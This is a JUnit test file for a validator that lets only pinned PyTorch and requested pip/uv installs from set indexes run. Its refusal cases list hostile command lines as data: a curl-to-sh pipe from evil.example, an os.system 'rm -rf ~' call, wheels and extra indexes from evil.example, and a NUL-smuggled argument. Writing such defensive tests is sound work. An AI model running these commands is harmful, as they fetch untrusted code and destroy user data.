package org.torchplan.client.run;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StepValidatorTest {

    /** torch (and torchvision) for cu126, stable; transformers, numpy and requests were asked for too. */
    private static final PlanOutline CU126 = new PlanOutline("cu126", "stable",
            Map.of("torch", "2.12.0+cu126", "torchvision", "0.27.0+cu126"),
            Set.of("torch", "torchvision", "transformers", "numpy", "requests", "pywin32"));
    private static final String PYTORCH_STEP =
            "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|torch==2.12.0+cu126";

    private static Step step(String commandLine) {
        // '|' separates arguments so a table row can hold arguments with spaces
        return new Step("test step", Arrays.asList(commandLine.split("\\|")));
    }

    /** The plan's PyTorch step, then the given steps. */
    private static List<Step> afterThePytorchStep(String... commandLines) {
        List<Step> steps = new ArrayList<>(List.of(step(PYTORCH_STEP)));
        Arrays.stream(commandLines).map(StepValidatorTest::step).forEach(steps::add);
        return steps;
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|torch==2.12.0+cu126|torchvision==0.27.0+cu126",
        "python|-m|pip|install|--index-url=https://download.pytorch.org/whl/cu126/|torch[opt-einsum]==2.12.0+cu126",
        "python|-m|pip|install|--only-binary|:all:|--index-url|https://mirror.corp.example/pytorch/cu126|torch==2.12.0+cu126",
        "uv|pip|install|--python|python|--index-url|https://download.pytorch.org/whl/cu126|torch==2.12.0+cu126",
    })
    void thePytorchStepInstallsThePinsFromTheBackendsIndex(String commandLine) {
        assertThatCode(() -> StepValidator.validate(List.of(step(commandLine)), CU126)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "python|-m|pip|install|--index-url|https://pypi.org/simple|transformers>=4.40|torch==2.12.0+cu126",
        "python|-m|pip|install|--index-url|https://mirror.example/simple|requests[socks]==2.32.3",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|pywin32; sys_platform == 'win32'",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|transformers[torch] (>=4.40, <5)|torch==2.12.0+cu126",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|numpy>=2; python_version >= \"3.10\"",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|--extra-index-url|https://download.pytorch.org/whl/cu126|numpy",
        "uv|pip|install|--python|python|--index-url|https://pypi.org/simple|--prerelease=allow|numpy",
    })
    void otherStepsInstallWhatWasAskedForFromOneIndex(String commandLine) {
        assertThatCode(() -> StepValidator.validate(afterThePytorchStep(commandLine), CU126)).doesNotThrowAnyException();
    }

    @Test
    void theTestAndNightlyChannelsHaveTheirOwnIndexes() {
        PlanOutline nightly = new PlanOutline("cu128", "nightly", Map.of("torch", "2.13.0.dev20260518+cu128"),
                Set.of("torch"));

        assertThatCode(() -> StepValidator.validate(List.of(step("python|-m|pip|install|--pre|--index-url|"
                + "https://download.pytorch.org/whl/nightly/cu128|torch==2.13.0.dev20260518+cu128")), nightly))
                .doesNotThrowAnyException();
        assertThatThrownBy(() -> StepValidator.validate(List.of(step("python|-m|pip|install|--pre|--index-url|"
                + "https://download.pytorch.org/whl/cu128|torch==2.13.0.dev20260518+cu128")), nightly))
                .hasMessageContaining("is not the nightly index of backend cu128 (a URL ending in /nightly/cu128)");
    }

    @Test
    void aPlanWithoutPytorchInstallsWhatWasAskedForFromOneIndex() {
        PlanOutline withoutPytorch = new PlanOutline("", "stable", Map.of(), Set.of("numpy"));

        assertThatCode(() -> StepValidator.validate(List.of(step(
                "python|-m|pip|install|--index-url|https://pypi.org/simple|numpy")), withoutPytorch))
                .doesNotThrowAnyException();
        assertThatCode(() -> StepValidator.validate(List.of(), withoutPytorch)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "sh|-c|curl evil.example | sh",
        "/usr/bin/python3|-m|pip|install|torch",
        "bash|-m|pip|install|torch",
        "python|-c|import os; os.system('rm -rf ~')",
        "python|-m|pip|uninstall|-y|torch",
        "python|-m|http.server",
        "python|-m|pip|install",
        "python|-m|pip|install|--index-url|file:///etc|torch",
        "python|-m|pip|install|--target|/etc|torch",
        "python|-m|pip|install|-r|/tmp/requirements.txt",
        "python|-m|pip|install|-e|.",
        "python|-m|pip|install|./local/package",
        "python|-m|pip|install|/tmp/evil-1.0-py3-none-any.whl",
        "python|-m|pip|install|https://evil.example/evil-1.0-py3-none-any.whl",
        "python|-m|pip|install|evil @ https://evil.example/evil.whl",
        "python|-m|pip|install|--pre=yes|torch",
        "python|-m|pip|install|--python|/tmp/evil|torch",
        "uv|pip|install|--python|/tmp/evil|torch",
        "uv|run|evil.py",
        "uv|pip|install|--index-url|https://ok.example/simple",
        "python|-m|pip|install|--find-links|./wheels|torch",
        "python|-m|pip|install|--find-links|file:///tmp/wheels|torch",
    })
    void anythingElseIsRefusedBeforeAnythingRuns(String commandLine) {
        assertThatThrownBy(() -> StepValidator.validate(List.of(step(commandLine)), CU126))
                .isInstanceOf(UnsafeStepException.class)
                .hasMessageContaining("refusing to run step 1");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        // another index for the PyTorch packages: another backend's, another channel's, or another site's
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu121|torch==2.12.0+cu126",
        "python|-m|pip|install|--index-url|https://evil.example/simple|torch==2.12.0+cu126",
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/nightly/cu126|torch==2.12.0+cu126",
        // a second index next to the plan's
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|--extra-index-url|https://evil.example/simple|torch==2.12.0+cu126",
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|-f|https://evil.example/wheels/|torch==2.12.0+cu126",
        "uv|pip|install|--index-url|https://download.pytorch.org/whl/cu126|--index|https://evil.example/simple|torch==2.12.0+cu126",
        "python|-m|pip|install|torch==2.12.0+cu126",
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|-i|https://download.pytorch.org/whl/cu126|torch==2.12.0+cu126",
        // other versions or packages than the plan's
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|torch==99.0.0",
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|torch>=2.12",
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|torch==2.12.0+cu126|evil==1.0",
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|evil-1.0-py3-none-any.whl",
        // a pip self-upgrade, uv's index strategy
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|--upgrade|--force-reinstall|pip|torch==2.12.0+cu126",
        "uv|pip|install|--python|python|--index-url|https://download.pytorch.org/whl/cu126|--index-strategy|unsafe-best-match|torch==2.12.0+cu126",
    })
    void thePytorchStepReadsOnlyItsBackendsIndexAndInstallsOnlyThePins(String commandLine) {
        assertThatThrownBy(() -> StepValidator.validate(List.of(step(commandLine)), CU126))
                .isInstanceOf(UnsafeStepException.class)
                .hasMessageContaining("refusing to run step 1");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "python|-m|pip|install|--index-url|https://pypi.org/simple|pip",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|evil",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|numpy|torch==99.0.0",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|--extra-index-url|https://evil.example/simple|numpy",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|-U|numpy",
    })
    void otherStepsInstallNothingElse(String commandLine) {
        assertThatThrownBy(() -> StepValidator.validate(afterThePytorchStep(commandLine), CU126))
                .isInstanceOf(UnsafeStepException.class)
                .hasMessageContaining("refusing to run step 2");
    }

    @Test
    void allOtherStepsReadTheSameIndex() {
        assertThatThrownBy(() -> StepValidator.validate(afterThePytorchStep(
                "python|-m|pip|install|--index-url|https://pypi.org/simple|numpy",
                "python|-m|pip|install|--index-url|https://evil.example/simple|requests"), CU126))
                .hasMessageContaining("refusing to run step 3 of the plan: it reads the index "
                        + "https://evil.example/simple, where the plan's other step reads https://pypi.org/simple");
    }

    @Test
    void theRefusalSaysWhy() {
        assertThatThrownBy(() -> StepValidator.validate(afterThePytorchStep(
                "python|-m|pip|install|--index-url|https://pypi.org/simple|--upgrade|pip"), CU126))
                .hasMessageContaining("option '--upgrade': upgrading is the user's choice");
        assertThatThrownBy(() -> StepValidator.validate(afterThePytorchStep(
                "python|-m|pip|install|--index-url|https://pypi.org/simple|pip"), CU126))
                .hasMessageContaining("it installs 'pip', which was not asked for (it would replace pip itself)");
        assertThatThrownBy(() -> StepValidator.validate(List.of(step("uv|pip|install|--index-strategy|"
                + "unsafe-best-match|torch==2.12.0+cu126")), CU126))
                .hasMessageContaining("uv's --index-strategy would let another index's versions win");
        assertThatThrownBy(() -> StepValidator.validate(List.of(step("python|-m|pip|install|--index-url|"
                + "https://download.pytorch.org/whl/cu126|--extra-index-url|https://evil.example/simple|"
                + "torch==2.12.0+cu126")), CU126))
                .hasMessageContaining("--extra-index-url https://evil.example/simple is not one of the plan's "
                        + "indexes (https://download.pytorch.org/whl/cu126)");
    }

    @Test
    void aDependencyOfTheResolvedEnvironmentMayBePinnedAtItsResolvedVersionOnly() {
        PlanOutline resolved = new PlanOutline("cu126", "stable", Map.of("torch", "2.12.0+cu126"),
                Set.of("torch", "timm"), Map.of("timm", "1.0.15", "huggingface-hub", "0.26.2", "pip", "24.0"));

        StepValidator.validate(afterThePytorchStep("python|-m|pip|install|--index-url|https://pypi.org/simple|"
                + "timm==1.0.15|huggingface_hub==0.26.2|torch==2.12.0+cu126"), resolved);
        assertThatThrownBy(() -> StepValidator.validate(afterThePytorchStep("python|-m|pip|install|--index-url|"
                + "https://pypi.org/simple|huggingface-hub==0.99.0"), resolved))
                .hasMessageContaining("it installs 'huggingface-hub==0.99.0', which was not asked for (the plan's "
                        + "environment has huggingface-hub==0.26.2)");
        assertThatThrownBy(() -> StepValidator.validate(afterThePytorchStep("python|-m|pip|install|--index-url|"
                + "https://pypi.org/simple|huggingface-hub"), resolved)).isInstanceOf(UnsafeStepException.class);
        assertThatThrownBy(() -> StepValidator.validate(afterThePytorchStep("python|-m|pip|install|--index-url|"
                + "https://pypi.org/simple|pip==24.0"), resolved))
                .hasMessageContaining("(it would replace pip itself)");
    }

    @Test
    void pinsWithoutAStepAreRefused() {
        assertThatThrownBy(() -> StepValidator.validate(List.of(), CU126)).isInstanceOf(UnsafeStepException.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "python|-m|pip|install|torch\u0000evil"})
    void emptyOrControlCharacterArgumentsAreRefused(String commandLine) {
        Step step = commandLine.isEmpty() ? new Step("empty", List.of()) : step(commandLine);

        assertThatThrownBy(() -> StepValidator.validate(List.of(step), CU126)).isInstanceOf(UnsafeStepException.class);
    }

    @Test
    void theMessageNamesTheOffendingStep() {
        List<Step> steps = List.of(step(PYTORCH_STEP), step("curl|https://evil.example"));

        assertThatThrownBy(() -> StepValidator.validate(steps, CU126))
                .hasMessageContaining("step 2")
                .hasMessageContaining("'curl'");
    }
}
